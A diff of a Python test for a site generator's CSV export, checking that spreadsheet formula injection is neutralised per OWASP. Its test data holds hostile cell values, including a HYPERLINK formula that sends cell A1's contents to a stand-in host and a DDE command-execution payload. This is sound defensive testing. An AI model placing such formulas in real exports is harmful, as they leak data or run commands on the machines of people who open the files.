@@ -137,8 +137,6 @@ def test_people_are_named_by_id_name_and_page(site: Path, name: str) -> None:
         assert person["url"] == f"{SITE_URL}anggota/{person['id']}/"
 
 
-
-
 def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
     """OWASP's rule for CSV injection: text starting with = + - @ tab or CR gets an apostrophe."""
     from conftest import copy_project
@@ -150,7 +148,9 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> No
     hostile = ['=HYPERLINK("https://contoh.id/?"&A1;"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]
     text = item.read_text(encoding="utf-8")
     text = text.replace("judul: Poster Rantai Makanan di Sawah", f"judul: '{hostile[0]}'")
-    text = text.replace("kata_kunci: [ekosistem, rantai makanan]", f'kata_kunci: ["{hostile[1]}", "{hostile[2]}", "{hostile[3]}"]')
+    text = text.replace(
+        "kata_kunci: [ekosistem, rantai makanan]", f'kata_kunci: ["{hostile[1]}", "{hostile[2]}", "{hostile[3]}"]'
+    )
     item.write_text(text, encoding="utf-8")
 
     output = generate(project.data, TODAY)
